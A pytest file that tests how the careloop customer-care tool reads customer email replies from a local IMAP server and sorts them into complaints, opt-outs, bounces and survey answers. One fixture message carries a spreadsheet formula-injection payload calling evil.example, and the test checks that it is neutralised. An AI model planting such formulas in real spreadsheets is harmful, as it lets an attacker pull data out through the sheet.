"""Issue 25 (first part): careloop listens by email. A real IMAP server (Dovecot, on 127.0.0.1, its
mailbox filled by writing files into Maildir/new) holds what customers sent back; the escalation
run takes each message once — across runs, and two runs at once — and acts: a complaint opens a
case, "HỦY" records the opt-out, a bounce notes the row, an out-of-office is only counted; every
message gets a row in the Replies tab. The mailbox is left as it was: staff read it too."""

from __future__ import annotations

import imaplib
import json
from datetime import datetime

import openpyxl

from functions.core.tables import same_cell
from tests.helpers import VN, mails
from tests.helpers.cli import careloop, careloop_at_once
from tests.helpers.dovecot import PASSWORD, USER
from tests.helpers.support import local_settings, row, workbook_with_owners
from tests.helpers.words import piece

NOW = "2026-11-25T10:00"  # a working Wednesday (24/11 is a holiday: Vietnam Cultural Day)
CUSTOMERS = [
    row("C-1", "Nguyễn Thị Lan", "chị", "lan@example.com", purchase="16/11/2026"),
    row("C-2", "Trần Văn Hùng", "anh", "hung@example.com", birthday="25/11/1990"),
    row("C-3", "Lê Văn Tám", "anh", "tam@example.com", purchase="16/11/2026"),
    row("C-4", "Phạm Thu Hà", "chị", "ha@example.com"),
]


def workbook(tmp_path):
    return workbook_with_owners(tmp_path / "k.xlsx", CUSTOMERS)


def settings(tmp_path, path, server):
    return local_settings(tmp_path, path, imap_host="127.0.0.1", imap_port=str(server.port), imap_security="none",
                          imap_user=USER, imap_password=PASSWORD)  # fmt: skip


ARRIVED = datetime(2026, 11, 24, 9, 30, tzinfo=VN)  # when the mailbox received them: what a reply is dated by


def fill(server):
    history = "\n".join(f"> dòng {n} của thư trước" for n in range(200))
    for raw in (
        mails.reply("Nguyễn Thị Lan <lan@example.com>", "Sản phẩm bị lỗi, tôi rất không hài lòng",
                    message_id="<c1@ex>", in_reply_to=mails.ours("checkin/C-1/2026-11-16")),
        mails.reply("hung@example.com", "HỦY", message_id="<c2@ex>", in_reply_to=mails.ours("birthday/C-2/2026")),
        mails.reply("ha@example.com", "Tôi đang nghỉ phép đến 30/11", message_id="<c3@ex>",
                    subject="Trả lời tự động: Hỏi thăm", Auto_Submitted="auto-replied"),
        mails.bounce("tam@example.com", "checkin/C-3/2026-11-16", "<c4@mx>"),
        mails.reply("ha@example.com", f"Cảm ơn văn phòng.\n\nVào 23/11/2026 Văn phòng đã viết:\n{history}",
                    message_id="<c5@ex>"),
        mails.reply("ha@example.com", '=IMPORTXML("http://evil.example/x", "//a")', message_id="<c6@ex>"),
        mails.with_attachment("ha@example.com", "Ảnh đây ạ", "<c7@ex>"),
        mails.windows_1258("ha@example.com", "Nhân viên rất nhiệt tình", "<c8@ex>"),
        mails.reply("nguoi.la@example.org", "Cho tôi hỏi giá dịch vụ", message_id="<c9@ex>", charset="utf-8",
                    cte="base64"),
    ):  # fmt: skip
        server.deliver(raw, at=ARRIVED)


def replies_tab(path):
    sheet = openpyxl.load_workbook(path)["Phản hồi"]
    rows = list(sheet.iter_rows(values_only=True))
    return [dict(zip(rows[0], r, strict=False)) for r in rows[1:] if r[0]]


def dashboard_week(path, label):
    sheet = openpyxl.load_workbook(path)["Tổng quan"]
    rows = list(sheet.iter_rows(values_only=True))
    return next(dict(zip(rows[0], r, strict=False)) for r in rows[1:] if label in r)


def escalate(tmp_path, env):
    result = careloop("run", "escalate", "--json", "--now", NOW, cwd=tmp_path, env=env)
    assert result.returncode == 0, result.stderr
    return json.loads(result.stdout)


def unseen(server) -> int:
    connection = imaplib.IMAP4("127.0.0.1", server.port)
    connection.login(USER, PASSWORD)
    connection.select("INBOX", readonly=True)
    _, found = connection.search(None, "UNSEEN")
    connection.logout()
    return len(found[0].split())


def test_each_message_ends_where_it_should_once_across_two_runs(tmp_path, mailbox):
    path = workbook(tmp_path)
    env = settings(tmp_path, path, mailbox)
    fill(mailbox)
    first = escalate(tmp_path, env)
    assert first["replies"] == {"auto_reply": 1, "bounce": 1, "complaint": 1, "refusal": 1, "reply": 5}
    (case,) = first["opened"]
    assert case["customer_id"] == "C-1" and case["owner"] == "Hà <ha@luat.vn>"
    assert [n["to"] for n in first["notified"]] == ["ha@luat.vn"]  # the owner's email, as for a ticked row
    rows = {r["Mã phản hồi"]: r for r in replies_tab(path)}
    assert len(rows) == 9
    by_text = {r["Nội dung"]: r for r in rows.values()}
    complaint = by_text["Sản phẩm bị lỗi, tôi rất không hài lòng"]
    assert complaint["Mã KH"] == "C-1" and case["case_id"] in complaint["careloop đã làm"]
    assert piece("heard_refusal", 0) in by_text["HỦY"]["careloop đã làm"]
    assert "Cảm ơn văn phòng." in by_text and '\'=IMPORTXML("http://evil.example/x", "//a")' in by_text
    assert "Ảnh đây ạ" in by_text and "Nhân viên rất nhiệt tình" in by_text
    assert by_text["Cho tôi hỏi giá dịch vụ"]["Mã KH"] is None  # an unknown sender: a row for staff
    bounce = next(r for r in rows.values() if r["Trả lời tin"] == "tin hỏi thăm sau mua ngày 16/11 (email)")
    assert bounce["Mã KH"] == "C-3" and "5.1.1" in bounce["careloop đã làm"]
    assert same_cell(complaint["Thời gian"], datetime(2026, 11, 24, 9, 30))  # when it arrived
    week = dashboard_week(path, "tuần 23/11 (đang diễn ra)")  # the week they were heard in, still going on
    assert (week["Phản hồi của khách"], week["Từ chối qua phản hồi"], week[piece("digest_bounces", 0)]) == (7, 1, 1)
    second = escalate(tmp_path, env)
    assert second["replies"] == {} and second["opened"] == [] and len(replies_tab(path)) == 9
    assert unseen(mailbox) == 9  # nothing marked read, moved or deleted: staff read this mailbox too


def test_the_refusal_stops_the_next_message_and_the_bounce_notes_the_row(tmp_path, mailbox):
    path = workbook(tmp_path)
    env = settings(tmp_path, path, mailbox)
    fill(mailbox)
    escalate(tmp_path, env)
    result = careloop("run", "followup", "--json", "--now", "2026-11-25T11:00", cwd=tmp_path, env=env)
    report = json.loads(result.stdout)
    assert "C-2" not in {s["customer_id"] for s in report["sent"]}  # Hùng's birthday: he said HỦY
    customers = {r[0]: r for r in openpyxl.load_workbook(path)["Khách hàng"].iter_rows(min_row=2, values_only=True)}
    header = [c.value for c in openpyxl.load_workbook(path)["Khách hàng"][1]]
    assert customers["C-2"][header.index("Từ chối nhận tin")] is True
    note = customers["C-3"][header.index("Ghi chú hệ thống")]
    assert "không tới được" in note and "mailbox does not exist" in note, customers["C-3"]
    # A hard bounce: email is not tried again for that address (Tám's check-in is due, and waits)…
    assert "C-3" not in {s["customer_id"] for s in report["sent"]} and "bị trả lại" in note
    book = openpyxl.load_workbook(path)
    sheet = book["Khách hàng"]
    sheet.cell(4, header.index("Email") + 1, "tam.moi@example.com")  # …until staff change the address
    book.save(path)
    again = json.loads(careloop("run", "followup", "--json", "--now", "2026-11-25T11:30", cwd=tmp_path, env=env).stdout)
    assert [(s["customer_id"], s["to"]) for s in again["sent"]] == [("C-3", "tam.moi@example.com")]


def test_two_runs_at_once_take_each_message_once(tmp_path, mailbox):
    path = workbook(tmp_path)
    env = settings(tmp_path, path, mailbox)
    fill(mailbox)
    results = careloop_at_once("run", "escalate", "--json", "--now", NOW, cwd=tmp_path, env=env)
    assert all(r.returncode == 0 for r in results), [r.stderr for r in results]
    assert len(replies_tab(path)) == 9
    opened = [o for r in results for o in json.loads(r.stdout)["opened"]]
    assert len({o["case_id"] for o in opened}) == 1


def test_a_mailbox_that_refuses_the_login_is_said_and_the_run_goes_on(tmp_path, mailbox):
    path = workbook(tmp_path)
    env = {**settings(tmp_path, path, mailbox), "CARELOOP_IMAP_PASSWORD": "wrong-password"}
    report = escalate(tmp_path, env)
    assert "127.0.0.1" in report["replies"]["error"] and report["write_back"].get("error") is None
    assert "127.0.0.1" in report["provider_refused"]["IMAP"]  # the Health tab says it, the manager is told
    health = {r[0]: r for r in openpyxl.load_workbook(path)["Tình trạng"].iter_rows(min_row=2, values_only=True)}
    assert any(row[2] == "Có lỗi" and "IMAP" in (row[5] or "") for row in health.values())


def test_with_a_done_folder_each_message_taken_is_moved_there_after_the_sheet_shows_it(tmp_path, mailbox):
    path = workbook(tmp_path)
    connection = imaplib.IMAP4("127.0.0.1", mailbox.port)
    connection.login(USER, PASSWORD)
    connection.create("Done")
    connection.logout()
    env = {**settings(tmp_path, path, mailbox), "CARELOOP_IMAP_DONE_FOLDER": "Done"}
    fill(mailbox)
    report = escalate(tmp_path, env)
    assert sum(report["replies"].values()) == 9 and "done_folder" not in report["replies"]
    connection = imaplib.IMAP4("127.0.0.1", mailbox.port)
    connection.login(USER, PASSWORD)
    inbox, done = (int(connection.select(folder, readonly=True)[1][0]) for folder in ("INBOX", "Done"))
    connection.logout()
    assert (inbox, done) == (0, 9)
    assert escalate(tmp_path, env)["replies"] == {} and len(replies_tab(path)) == 9


def test_a_reply_from_another_address_is_matched_by_the_message_it_answers(tmp_path, mailbox):
    path = workbook(tmp_path)
    env = settings(tmp_path, path, mailbox)
    ours = mails.ours("checkin/C-1/2026-11-16")  # as careloop's check-in carried it
    mailbox.deliver(mails.reply("lan.congty@example.net", "Tôi rất thất vọng về dịch vụ", message_id="<w1@ex>",
                                in_reply_to=ours), at=ARRIVED)  # fmt: skip
    report = escalate(tmp_path, env)
    assert [o["customer_id"] for o in report["opened"]] == ["C-1"]
    (row,) = replies_tab(tmp_path / "k.xlsx")
    assert (row["Mã KH"], row["Trả lời tin"]) == ("C-1", "tin hỏi thăm sau mua ngày 16/11 (email)")  # words, no key


def test_a_score_replied_to_the_check_in_is_its_survey_answer_and_a_low_one_opens_one_case(tmp_path, mailbox):
    from datetime import timedelta

    from functions.adapters.stores.sqlite import SqliteStore
    from functions.core.surveys import Survey, survey_id_for

    path = workbook(tmp_path)
    env = settings(tmp_path, path, mailbox)
    sent = datetime(2026, 11, 23, 9, tzinfo=VN)
    survey = Survey(survey_id_for("C-1", "checkin/2026-11-16"), "C-1", "checkin/2026-11-16", "vi", sent,
                    sent + timedelta(days=30))  # fmt: skip
    SqliteStore(tmp_path / "s.sqlite").surveys.create_survey(survey)
    ours = mails.ours("checkin/C-1/2026-11-16")
    mailbox.deliver(mails.reply("lan@example.com", "2 điểm, chờ lâu quá", message_id="<s1@ex>", in_reply_to=ours),
                    at=ARRIVED)  # fmt: skip
    first = escalate(tmp_path, env)
    assert first["replies"] == {"survey_answer": 1}
    (case,) = first["opened"]
    assert (case["customer_id"], case["category"]) == ("C-1", "CSAT")
    answers = SqliteStore(tmp_path / "s.sqlite").surveys.survey(survey.survey_id).answers
    assert [(a.score, a.comment) for a in answers] == [(2, "2 điểm, chờ lâu quá")]
    assert case["case_id"] in replies_tab(path)[0]["careloop đã làm"]
    second = escalate(tmp_path, env)  # the run's own low-score check sees the answer: the same case, not another
    assert second["opened"] == [] and len(SqliteStore(tmp_path / "s.sqlite").cases.cases()) == 1
